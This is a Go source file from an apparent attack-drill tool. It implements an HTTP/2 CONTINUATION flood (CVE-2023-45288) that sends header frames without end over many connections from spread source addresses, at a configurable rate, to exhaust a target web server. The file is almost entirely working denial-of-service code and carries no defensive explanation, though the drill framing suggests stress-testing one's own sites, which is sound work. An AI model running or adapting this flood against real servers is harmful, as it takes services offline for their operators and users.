package attack

import (
	"bytes"
	"context"
	"fmt"
	"net/netip"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"kontor/drill/browser"
)

func init() { kinds["continuation-flood"] = newContinuationFlood }

const continuationSize = 1 << 10 // bytes of headers in a frame, at least

// newContinuationFlood sends a request whose headers never end: frame upon frame
// of CONTINUATION (CVE-2023-45288), 1,000 a second in all over ten connections
// unless the scenario says otherwise. A request is one offered, refused when the
// site ends its connection; then the next begins. Bytes are counted.
func newContinuationFlood(p Params) (Attack, error) {
	sources, total, err := p.spread(usual{addresses: 10, rate: 100, networks: "many"})
	if err != nil {
		return nil, err
	}
	n := p.Connections
	if n == 0 {
		n = 10
	}
	every := time.Duration(float64(time.Second) * float64(n) / total)
	return &frameFlood{sources, n, func(ctx context.Context, t Target, from netip.Addr, _ uint64, c *Counter) error {
		return t.continuations(ctx, or(p.Path, "/"), from, every, c)
	}}, nil
}

func (t Target) continuations(ctx context.Context, path string, from netip.Addr, every time.Duration, c *Counter) error {
	g, err := t.grip(ctx, from, both)
	if err != nil {
		return err
	}
	var listening sync.WaitGroup
	defer listening.Wait()
	defer g.Close()
	f, err := g.frames(greeting[1].Val)
	if err != nil {
		return err
	}
	r := t.page(browser.Desk, path, "", nil)
	block, err := f.headers(&r, 0)
	if err != nil {
		return err
	}
	if err := f.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true}); err != nil {
		return err
	}
	c.Offer()
	ended := make(chan struct{})
	listening.Go(func() {
		defer close(ended)
		f.listen(func(uint32, Outcome) {}, func(uint32) {})
		if ctx.Err() == nil {
			c.End(Refused)
		}
	})
	piece, err := endless()
	if err != nil {
		return err
	}
	tick := time.NewTicker(max(every, beat))
	defer tick.Stop()
	each := max(int(beat/max(every, 1)), 1)
	for {
		for range each {
			if err := f.fr.WriteContinuation(1, false, piece); err != nil {
				return err
			}
		}
		if err := f.send(); err != nil {
			return nil // the site closed
		}
		select {
		case <-ctx.Done():
			return nil
		case <-ended:
			return nil
		case <-tick.C:
		}
	}
}

// endless is a piece of headers that may be sent again and again: fields that no
// table keeps.
func endless() ([]byte, error) {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for i := 0; b.Len() < continuationSize; i++ {
		if err := e.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d", i), Value: "0123456789abcdef", Sensitive: true}); err != nil {
			return nil, err
		}
	}
	return b.Bytes(), nil
}
